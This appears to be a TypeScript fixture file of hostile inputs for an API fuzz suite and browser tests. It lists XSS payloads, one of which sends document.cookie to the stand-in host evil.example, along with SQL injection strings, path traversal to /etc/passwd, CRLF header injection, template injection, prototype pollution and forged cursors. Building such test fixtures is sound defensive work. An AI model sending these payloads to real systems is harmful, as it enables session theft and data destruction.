/**
 * What an attacker types or sends, as plain data with no imports, so the API's
 * fuzz suite (server/api/fuzz.test.ts) and browser tests (which render it and
 * check that nothing runs) share one list. Each group is what one kind of
 * parser or store chokes on; every value is something a client can really send
 * through tRPC's superjson (Dates, BigInts, Maps and Sets included).
 */

/** Markup that would run script if any page rendered it as HTML or put it in an attribute or a link. */
export const xssPayloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script>fetch('//evil.example/?c='+document.cookie)</script>",
  '"><script>alert(document.domain)</script>',
  "'><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<div onmouseover=\"alert(1)\">hover</div>",
  "<marquee onstart=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "&#106;avascript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  '<a href="javascript:alert(1)">click</a>',
  "[click](javascript:alert(1))",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  "<form action=javascript:alert(1)><button>go</button></form>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  "<style>@import 'javascript:alert(1)';</style>",
  '<link rel="stylesheet" href="//evil.example/x.css">',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<!--<script>alert(1)//-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "{{constructor.constructor('alert(1)')()}}",
];

/** Characters that look harmless and are not: direction overrides, invisible ones, mixed scripts. */
export const unicodeTricks: readonly string[] = [
  "invoice\u202Efdp.exe",
  "\u202Eevil\u202C",
  "\u2066isolated\u2069 \u2067rtl\u2069",
  "admin\u200B",
  "\u200B\u200C\u200D\u2060\uFEFF",
  "p\u0430ypal",
  "مرحبا hello שלום 123",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "\u00A0\u2028\u2029\u3000",
  "\r\nSet-Cookie: session=stolen",
  "line\u0085next",
];

/** What SQL, full-text search, ICU MessageFormat, template engines, paths and format strings treat as syntax. */
export const metacharacters: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE \"Tenant\"; --",
  '" OR ""="',
  "1; SELECT pg_sleep(10)",
  "%_\\",
  "$1 $$ $body$",
  "a & b | !c :* (d",
  "'\\'",
  "{",
  "}",
  "{name",
  "{name, plural, one {#} other {{count}}}",
  "{a, select, other {{b, select, other {{c, select, other {x}}}}}}",
  "'{'escaped'}'",
  "{0, number, ::currency/XXX}",
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  "__proto__",
  "constructor",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%s%s%s%n",
  "null",
  "undefined",
  "NaN",
  "-1",
  "0x7fffffff",
  "true",
  "[]",
  "{}",
  '{"__proto__":{"admin":true}}',
];

const base64url = (text: string) => btoa(text).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");

/**
 * A list's opaque cursor, forged: not base64 at all, base64 of what is not
 * JSON, JSON of the wrong shape, and the right shape holding a non-uuid id, an
 * invalid or out-of-range date — each a different place a decoder can trust too much.
 */
export const forgedCursors: readonly string[] = [
  "!!!not-base64!!!",
  base64url("not json"),
  base64url("null"),
  base64url("[]"),
  base64url("{}"),
  base64url('{"id":42,"at":[]}'),
  base64url('{"at":null,"id":"not-a-uuid"}'),
  base64url('{"at":null,"id":"\' OR 1=1 --"}'),
  base64url('{"at":"garbage","id":"00000000-0000-4000-8000-000000000000"}'),
  base64url('{"at":"2024-02-30T25:61:00Z","id":"00000000-0000-4000-8000-000000000000"}'),
  base64url('{"at":"+275760-09-13T00:00:00.000Z","id":"00000000-0000-4000-8000-000000000000"}'),
  base64url('{"at":"0000-01-01T00:00:00.000Z","id":"00000000-0000-4000-8000-000000000000"}'),
  base64url('{"at":1e400,"id":"00000000-0000-4000-8000-000000000000"}'),
];

/** Strings PostgreSQL cannot store (NUL) and UTF-16 that is not text (lone surrogates). */
export const brokenText: readonly string[] = ["\u0000", "a\u0000b", "\uD800", "\uDFFF", "x\uDC00\uD800y", "\uD83D", "🙂".slice(0, 1) + "tail"];

/** Past every bound an input has, in characters and in UTF-16 units. */
export const longStrings: readonly string[] = ["a".repeat(100_001), "🙂".repeat(50_001), "<b>".repeat(30_000), " ".repeat(100_001), `${"x".repeat(4001)}{`];

export const hostileNumbers: readonly number[] = [
  0,
  -0,
  -1,
  0.5,
  -0.5,
  1e308,
  -1e308,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  Number.EPSILON,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER - 2,
  2 ** 31,
  2 ** 63,
  NaN,
  Infinity,
  -Infinity,
];

/** The ends of JavaScript's dates (year 275760, year -271821), year 0, Invalid Date, and dates past PostgreSQL's 4-digit years. */
export const extremeDates: readonly Date[] = [
  new Date(8.64e15),
  new Date(-8.64e15),
  new Date("0000-01-01T00:00:00.000Z"),
  new Date(Number.NaN),
  new Date(0),
  new Date(-1),
  new Date("9999-12-31T23:59:59.999Z"),
  new Date("+010000-01-01T00:00:00.000Z"),
  new Date("-000001-01-01T00:00:00.000Z"),
];

/** What a coercing date input gets from a client that sends text or numbers instead of a Date. */
export const hostileDateInputs: readonly unknown[] = [
  "+275760-09-13T00:00:00.000Z",
  "275760-09-13",
  "0000-01-01",
  "2024-02-30T25:61:00Z",
  "not a date",
  "",
  8.64e15 + 1,
  -8.64e15,
  1e21,
  Number.NaN,
];

/**
 * Values of the wrong type for any field, including what superjson can carry
 * that JSON cannot (BigInt, Map, Set, RegExp, undefined) and objects that try
 * to pollute prototypes.
 */
export const wrongTypes: readonly unknown[] = [
  null,
  undefined,
  true,
  false,
  0,
  "",
  [],
  {},
  [null],
  { toString: "not a function" },
  2n ** 64n,
  new Map([["key", "value"]]),
  new Set([1, 2, 3]),
  /.*/g,
  JSON.parse('{"__proto__":{"polluted":true}}') as unknown,
  { constructor: { prototype: { polluted: true } } },
];

/** An object or array nested `depth` levels deep, built without recursion. */
export function deeplyNested(depth: number, kind: "object" | "array"): unknown {
  let value: unknown = "bottom";
  for (let level = 0; level < depth; level++) value = kind === "object" ? { nested: value } : [value];
  return value;
}
